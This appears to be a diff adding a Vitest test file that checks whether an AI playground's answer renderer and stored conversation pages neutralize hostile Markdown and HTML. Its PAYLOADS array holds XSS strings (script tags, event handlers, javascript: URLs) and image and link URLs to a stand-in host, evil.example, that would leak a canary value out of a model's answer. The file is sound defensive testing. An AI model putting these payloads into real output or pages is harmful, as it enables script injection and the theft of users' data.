@@ -1,0 +1,132 @@
+import { describe, it } from "vitest";
+import { messages } from "../../src/db/schema.ts";
+import { finalText, MODEL_SETTINGS, scriptModel } from "../support/model.ts";
+import { createOrganization, db } from "../support/service.ts";
+import { signInAs } from "./browser.ts";
+import { pathOf, withJar } from "./playground-support.ts";
+import { renderAnswer } from "./render-answer.tsx";
+
+/** Of test/analyst/planted-text and neutral-text, and what else has ever broken a renderer of Markdown. */
+const PAYLOADS = [
+  "![status](https://evil.example/p.png?d=CANARY)",
+  "[click here](https://evil.example/?d=CANARY)",
+  "![a][b]\n\n[b]: https://evil.example/CANARY",
+  '<img src="https://evil.example/CANARY">',
+  '<a href="https://evil.example/CANARY">more</a>',
+  "<https://evil.example/CANARY>",
+  "[x](javascript:alert(1))",
+  "[x](data:text/html;base64,CANARY)",
+  "<scr<b>ipt>alert(1)</scr</b>ipt>",
+  "<script>alert(1)</script>",
+  "<img src=x onerror=alert(1)>",
+  "<svg/onload=alert(1)>",
+  "**<b onclick=alert(1)>**x",
+  "`</code><script>alert(1)</script>`",
+  "```\n</code></pre><script>alert(1)</script>\n```",
+  '``` "onmouseover=alert(1)\nx\n```',
+  "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
+  "- <details open ontoggle=alert(1)>",
+  "# <style>*{display:none}</style>",
+  '> <iframe src="javascript:alert(1)">',
+  "&lt;script&gt;alert(1)&lt;/script&gt;",
+  "\\<script>alert(1)</script>",
+  '"><script>alert(1)</script>',
+  "1,234</button><script>alert(1)</script>",
+  "\u2028<script>alert(1)</script>\u202e",
+  "</template><script>alert(1)</script>",
+  "</textarea><script>alert(1)</script>",
+  "</article><form action=//evil.example><input name=csrf>",
+];
+
+const ALLOWED =
+  /^<\/?(?:p|br|hr|ul|ol|li|strong|em|code|pre|blockquote|div|table|thead|tbody|tr|th|td|button|dl|dt|dd)(?: (?:class|value|tabindex|role|aria-label|aria-describedby|scope|type|popovertarget|id|popover)="[^"<>]*")*\/?>$/;
+
+function foreignTags(html: string): string[] {
+  return (html.match(/<[^>]*>?/g) ?? []).filter((tag) => !ALLOWED.test(tag));
+}
+
+describe("a hostile answer", () => {
+  it("becomes no element but those of the renderer, with none but its attributes", ({ expect }) => {
+    for (const payload of PAYLOADS) {
+      for (const text of [payload, `**${payload}**`, `- ${payload}`, `| a |\n|---|\n| ${payload} |`]) {
+        const evidence = [...text.matchAll(/\d+|<[a-z]+|"/g)].map(({ index, 0: found }) => ({
+          start: index,
+          end: index + found.length,
+          text: found,
+          kind: "quote" as const,
+          value: payload,
+          unit: payload,
+          metric: payload,
+          period: { startDate: payload, endDate: payload },
+          source: null,
+          action: 0,
+          path: payload,
+          formula: payload,
+          context: { id: payload, version: 1, name: payload },
+        }));
+        expect(foreignTags(renderAnswer(text, evidence, [payload])), text).toEqual([]);
+        expect(foreignTags(renderAnswer(text)), text).toEqual([]);
+      }
+    }
+  });
+
+  it("stays text on every page that shows it: streamed, without scripts, opened again", async ({
+    expect,
+  }) => {
+    const { id } = await createOrganization();
+    const browser = withJar(await signInAs(id, { bindings: MODEL_SETTINGS }));
+    await browser.get(pathOf(id));
+    for (const payload of PAYLOADS) {
+      const turn = JSON.stringify({
+        answer: payload,
+        thoughts: payload,
+        reasoning: payload,
+        followUpQuestion: payload,
+      });
+      scriptModel({ text: turn });
+      const page = await browser.post(pathOf(id, "/ask"), { message: payload });
+      const html = await page.text();
+      expect(dangerOf(html), payload).toEqual([]);
+      const stream = await browser.post(
+        pathOf(id, "/ask"),
+        { message: payload },
+        { Accept: "text/event-stream", "X-CSRF-Token": browser.csrfToken },
+      );
+      const [data = ""] = (await stream.text()).split("\ndata: ").at(-1)?.split("\n") ?? [];
+      const { html: streamed } = JSON.parse(data) as { html: string };
+      // Of some nothing is left; that is no answer, and told as such.
+      expect(streamed).toMatch(/<article|role="alert"/);
+      expect(dangerOf(streamed), payload).toEqual([]);
+    }
+  });
+
+  it("stays text when it was stored as it is", async ({ expect }) => {
+    const { id } = await createOrganization();
+    const browser = withJar(await signInAs(id, { bindings: MODEL_SETTINGS }));
+    await browser.get(pathOf(id));
+    scriptModel(finalText("Fine."));
+    const first = await (await browser.post(pathOf(id, "/ask"), { message: "Hello" })).text();
+    const [, conversationId = ""] = /name="conversationId" value="(cnv_[^"]+)"/.exec(first) ?? [];
+    for (const payload of PAYLOADS) {
+      const told = { thoughts: payload, reasoning: payload, followUpQuestion: payload };
+      const actions = [{ tool: payload, toolInput: payload, log: payload }];
+      await db()
+        .update(messages)
+        .set({ content: payload, metadata: { ...told, actions } });
+      const html = await (await browser.get(`${pathOf(id)}&conversation=${conversationId}`)).text();
+      expect(dangerOf(html), payload).toEqual([]);
+    }
+  });
+});
+
+/** Tags and attributes that no page of the playground has. */
+function dangerOf(html: string): string[] {
+  const tags = html.match(/<[^>]*>/g) ?? [];
+  return tags.filter(
+    (tag) =>
+      /^<(?:script(?! src="\/dashboard\/)|iframe|svg(?! viewBox)|style|b\b|object|embed|base)/i.test(tag) ||
+      /\son\w+\s*=/i.test(tag.replaceAll(/"[^"]*"/g, '""')) ||
+      (/(?:href|src|action)="(?!\/|#)/i.test(tag) && !tag.startsWith("<meta")) ||
+      /(?:href|src|action)="\/\//i.test(tag),
+  );
+}
